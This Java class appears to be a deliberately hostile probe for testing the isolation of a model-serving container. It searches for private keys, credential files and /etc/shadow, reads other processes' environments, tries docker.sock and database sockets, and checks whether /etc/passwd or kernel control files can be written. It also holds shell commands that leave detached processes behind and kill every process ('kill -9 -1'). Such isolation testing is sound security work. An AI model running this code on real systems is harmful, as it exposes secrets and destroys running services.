import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;
import java.util.*;

/**
 * Looks for what an entry script must not reach, and answers with each find; leaves processes behind; kills what it can.
 * A request is {@code look <folders>}, {@code leave <mark>} or {@code kill}.
 */
public class HostileScore {
    static final Path HERE = Path.of("").toAbsolutePath();
    static Path own;
    static List<String> found;

    public static void init(Path modelDir) {
        // <container>/var/azureml-app/azureml-models/NAME/1
        own = modelDir;
        while (!own.getFileName().toString().equals("var")) own = own.getParent();
        own = own.getParent();
    }

    public static String run(String request) throws Exception {
        String[] words = request.replace("\"", "").split(" ", 2);
        switch (words[0]) {
            case "leave" -> new ProcessBuilder("sh", "-c", "setsid sleep " + words[1] + " >/dev/null 2>&1 & setsid sh -c '(env -i /bin/sleep "
                    + words[1] + " >/dev/null 2>&1 &)'").start().waitFor();
            case "kill" -> {
                new ProcessBuilder("sh", "-c", "i=1; while [ $i -lt 100 ]; do kill -9 $i; i=$((i+1)); done; kill -9 -1")
                        .start()
                        .waitFor();
            }
            default -> {
                return look(words[1].split(","));
            }
        }
        return "[]";
    }

    static String look(String[] folders) throws IOException {
        found = new ArrayList<>();
        Set<Path> all = new LinkedHashSet<>();
        for (String folder : folders) all.add(Path.of(folder));
        for (Path up = own.getParent(); up != null; up = up.getParent()) all.add(up);
        for (String known : List.of("/root", "/home", "/run", "/var", "/etc/shadow", "/dev/shm", "/tmp", "/mltwin")) all.add(Path.of(known));
        for (Path folder : all) look(folder, 0);
        environments();
        for (String name : System.getenv().keySet()) if (name.startsWith("MLTWIN_")) found.add("variable " + name);
        tryConnectionsAndFiles();
        StringBuilder answer = new StringBuilder("[");
        for (String find : found) answer.append(answer.length() > 1 ? "," : "").append('"').append(find.replaceAll("[\"\\\\]", "_")).append('"');
        return answer.append("]").toString();
    }

    static void look(Path folder, int depth) {
        if (folder.startsWith(own) || folder.startsWith("/proc") || folder.startsWith("/sys") || depth > 7) return;
        if (Files.isRegularFile(folder)) {
            read(folder);
            return;
        }
        try (DirectoryStream<Path> inside = Files.newDirectoryStream(folder)) {
            for (Path path : inside) {
                if (Files.isSymbolicLink(path)) continue;
                String name = path.getFileName().toString();
                if (!Files.isDirectory(path)) read(path);
                else if (depth > 0 || !Set.of("usr", "proc", "sys", "lib", "bin", "opt", "snap").contains(name)) look(path, depth + 1);
            }
        } catch (IOException | SecurityException closed) {
            return;
        }
    }

    static void read(Path file) {
        String name = file.getFileName().toString();
        try {
            if (name.startsWith(".s.PGSQL")) found.add("socket " + file);
            if (!Files.isRegularFile(file) || !Files.isReadable(file)) return;
            if (name.matches(".*key.*\\.pem|.*\\.password|service\\.properties|credentials\\.json|shadow|.*\\.secret|.*\\.key|.*\\.onnx|.*\\.log")) found.add("file " + file);
            if (Files.size(file) < 1_000_000 && new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1).contains("PRIVATE" + " KEY")) found.add("key in " + file);
        } catch (IOException | SecurityException closed) {
            return;
        }
    }

    static void environments() throws IOException {
        try (DirectoryStream<Path> processes = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
            for (Path process : processes) {
                try {
                    String text = Files.readString(process.resolve("environ"), StandardCharsets.ISO_8859_1);
                    if (text.contains("MLTWIN_") || !text.isEmpty() && !text.contains(own.toString()) && !process.endsWith("1")) found.add("environment of " + process);
                } catch (IOException closed) {
                    continue;
                }
            }
        }
    }

    static void tryConnectionsAndFiles() {
        for (String name : List.of("/tmp/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432", "/var/run/docker.sock")) {
            try (SocketChannel socket = SocketChannel.open(StandardProtocolFamily.UNIX)) {
                socket.connect(UnixDomainSocketAddress.of(name));
                found.add("socket " + name);
            } catch (IOException closed) {
                continue;
            }
        }
        for (String host : List.of("postgres:5432", "kafka:9092")) {
            try (Socket socket = new Socket()) {
                String[] place = host.split(":");
                socket.connect(new InetSocketAddress(place[0], Integer.parseInt(place[1])), 1000);
                found.add("connection to " + host);
            } catch (IOException closed) {
                continue;
            }
        }
        for (String file : List.of("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/etc/passwd", "/usr/bin/x")) {
            try {
                Files.writeString(Path.of(file), "", StandardOpenOption.WRITE);
                found.add("writable " + file);
            } catch (IOException closed) {
                continue;
            }
        }
    }
}
